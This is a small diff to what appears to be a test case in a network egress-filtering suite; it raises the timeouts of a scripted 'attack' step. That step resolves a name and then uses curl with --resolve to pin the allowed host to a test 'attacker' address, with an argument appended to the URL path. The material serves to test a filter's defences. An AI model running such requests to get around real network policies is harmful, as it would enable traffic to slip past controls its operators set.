@@ -5,5 +5,5 @@ title='An alias of an allowed name, with the address of the attacker for it' ori
 reason=name_not_bound forms='output forward run'
 prepare() { h a ip addr replace 198.18.3.67/24 dev a0; }
 attack() {
-    client sh -c 'dig +tries=1 +timeout=1 +short @198.18.2.53 cross.odd.test; curl -sk --max-time 1 --resolve allowed.test:443:198.18.3.67 "https://allowed.test/$1"' sh "$1"
+    client sh -c 'dig +tries=1 +timeout=10 +short @198.18.2.53 cross.odd.test; curl -sk --max-time 20 --resolve allowed.test:443:198.18.3.67 "https://allowed.test/$1"' sh "$1"
 }
